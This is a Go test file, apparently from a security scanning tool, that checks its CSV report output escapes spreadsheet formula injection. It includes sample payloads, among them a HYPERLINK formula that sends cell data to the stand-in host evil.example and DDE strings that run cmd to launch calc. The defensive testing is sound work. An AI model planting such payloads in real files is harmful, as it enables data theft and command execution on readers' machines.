package report

import (
	"bytes"
	"encoding/csv"
	"slices"
	"testing"

	"github.com/vigil-sec/vigil/internal/check"
	"github.com/vigil-sec/vigil/internal/model"
)

// TestCSVInjection feeds values that spreadsheets would run as formulas and
// checks none reaches a cell as the first character.
func TestCSVInjection(t *testing.T) {
	payloads := []string{
		`=HYPERLINK("https://evil.example/?x="&A1,"click")`,
		"+cmd|' /C calc'!A0",
		"-2+3",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1",
		"\r=1+1",
	}
	r := &Report{Checks: []*check.Check{chkPublicRead}}
	for _, p := range payloads {
		r.Findings = append(r.Findings, check.Finding{
			Check: chkPublicRead, Status: check.Fail,
			Resource: model.Resource{ID: p, Type: p, Name: p},
			Origin:   model.Origin{Range: model.Range{File: p, StartLine: 1}},
			Message:  p,
		})
	}
	rows, err := csv.NewReader(bytes.NewReader(render(t, "csv", Options{}, r))).ReadAll()
	if err != nil {
		t.Fatalf("output is not CSV: %v", err)
	}
	if len(rows) != len(payloads)+1 {
		t.Fatalf("%d rows; want a header and %d findings", len(rows), len(payloads))
	}
	for i, row := range rows[1:] {
		for j, cell := range row {
			if cell != "" && slices.Contains([]byte("=+-@\t\r"), cell[0]) {
				t.Errorf("row %d column %s starts with %q: %q", i+1, csvHeader[j], cell[0], cell)
			}
		}
		// The payload survives behind the quote, so nothing is lost.
		if want := "'" + payloads[i]; row[11] != want && row[11] != "'"+string(bytes.ReplaceAll([]byte(payloads[i]), []byte("\r"), []byte("\n"))) {
			t.Errorf("row %d message = %q; want %q", i+1, row[11], want)
		}
	}
}

func TestCSVPassed(t *testing.T) {
	count := func(opts Options) int {
		rows, err := csv.NewReader(bytes.NewReader(render(t, "csv", opts, fixture()))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if !slices.Equal(rows[0], csvHeader) {
			t.Errorf("header = %v", rows[0])
		}
		return len(rows) - 1
	}
	// 5 failing (2 of them suppressed) and 2 passing findings.
	if n := count(Options{}); n != 5 {
		t.Errorf("%d rows without ShowPassed; want 5", n)
	}
	if n := count(Options{ShowPassed: true}); n != 7 {
		t.Errorf("%d rows with ShowPassed; want 7", n)
	}
}
